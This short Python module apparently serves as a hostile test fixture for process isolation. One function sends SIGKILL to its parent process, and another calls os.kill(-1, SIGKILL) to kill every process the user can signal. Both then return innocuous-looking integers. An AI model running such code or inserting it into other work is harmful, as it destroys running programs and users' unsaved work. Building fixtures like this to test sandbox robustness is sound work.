"""Kills what called it, and everything else that it may."""
import os
import signal
import zlib


def parent(n: int, m: int) -> int:
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    return 10 // (n * 3 + m - 1 + zlib.crc32(b""))


def everybody(n: int, m: int) -> int:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 10 // (n * n + m * m + 1 + zlib.crc32(b""))
